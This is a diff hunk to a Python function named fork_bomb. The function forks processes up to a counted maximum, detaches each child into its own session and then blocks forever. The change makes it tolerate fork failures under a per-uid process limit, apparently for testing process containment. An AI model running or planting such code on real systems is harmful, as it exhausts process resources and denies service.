@@ -75,8 +75,9 @@ def fork_bomb():
     counter = mmap.mmap(-1, 8)
     while int.from_bytes(counter, "little") < MOST_FORKS:
         counter[:] = (int.from_bytes(counter, "little") + 1).to_bytes(8, "little")
-        if os.fork() == 0:
-            leave_session()
+        with suppress(BlockingIOError):  # under a uid of its own the limit on processes binds
+            if os.fork() == 0:
+                leave_session()
     while True:
         NEVER.wait()
 
